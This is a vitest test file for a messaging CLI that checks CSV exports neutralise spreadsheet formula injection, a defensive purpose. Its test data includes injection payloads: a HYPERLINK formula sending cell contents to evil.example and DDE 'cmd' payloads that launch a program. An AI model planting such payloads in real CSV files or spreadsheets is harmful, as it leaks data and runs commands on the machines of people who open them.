import {describe, expect, test as plain} from 'vitest'
import {withFormulas, withoutFormulas} from '../../src/text/formulas.ts'
import {nastyStrings} from '../helpers/nasty-strings.ts'
import {startRules} from '../helpers/rules-server.ts'
import {test} from '../helpers/world.ts'

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'x;=1+1',
  'x; =1+1',
  'two\nlines\n=1+1',
  "'=1+1",
  "x;''=1+1",
  '\t\t=1+1',
  "'-5",
]
/** As a spreadsheet reads cells, with a comma or a semicolon between them. */
const begins = /(?:^|[;\t\r\n]) *(?:[=＝@]|[+-](?!\d))/

describe('a cell', () => {
  plain('that a spreadsheet would calculate is a text, and what it was when msgr reads it', () => {
    for (const cell of [...formulas, ...Object.values(nastyStrings)]) {
      expect(withoutFormulas(cell), cell).not.toMatch(begins)
      expect(withFormulas(withoutFormulas(cell)), cell).toBe(cell)
    }
  })

  plain.each([
    '-5',
    '+49170123456',
    '-1,234.56',
    '+1e3',
    '-50%',
    '6411223344556677',
    'Ada',
    'Hi ;-)',
    "O'Hara",
    'a=b',
    '',
  ])('that is none stays as it is: %s', cell => {
    expect(withoutFormulas(cell)).toBe(cell)
    expect(withFormulas(cell)).toBe(cell)
  })
})

test('CSV for a spreadsheet calculates nothing, --raw-csv and JSON are exact', async ({bareWorld: world}) => {
  const [name = ''] = formulas
  const {env} = await startRules([
    {
      path: '/custom_labels',
      answer: {
        data: [
          {id: '1', page_label_name: name},
          {id: '2', page_label_name: '-5'},
        ],
      },
    },
  ])
  const run = async (line: string) => (await world.msgr(line, {env})).out
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`

  expect(await run('label list --format csv')).toBe(`id,name\n1,${cell(`'${name}`)}\n2,-5\n`)
  expect(await run('label list --raw-csv')).toBe(`id,name\n1,${cell(name)}\n2,-5\n`)
  expect(JSON.parse(await run('label list --json'))[0].name).toBe(name)
  expect(await world.msgr('label list --raw-csv --json', {env})).toMatchObject({code: 2, out: ''})
})

test('a name is the same after an export and a broadcast, after a list of rejects too', async ({
  bareWorld: world,
}) => {
  const people = formulas.map((name, index) => ({id: `64112233445566${10 + index}`, name: name.trim()}))
  const data = people.map((person, index) => ({
    id: `t_${index}`,
    updated_time: '2026-11-28T10:00:00+0000',
    participants: {data: [person, {id: '109876543210987'}]},
  }))
  const {env} = await startRules([{path: '/conversations', answer: {data}}])
  const csv = await world.msgr('conversation export --out people.csv', {env})
  const text = await world.read('people.csv')

  expect(csv.code).toBe(0)
  expect(text).toContain('"\'=HYPERLINK(')
  const plan = await world.msgr('broadcast plan --to people.csv --text {{name}} --json', {env})
  expect(JSON.parse(plan.out).examples[0].message.text).toBe(people[0]?.name)

  await world.write('bad.csv', `psid,name\nnobody,"'=1+1"\n${people[0]?.id},@ada\n`)
  await world.msgr('broadcast plan --to bad.csv --skip-invalid --rejects rejects.csv --text {{name}}', {env})
  expect(await world.read('rejects.csv')).toContain("\nnobody,'=1+1,")
})
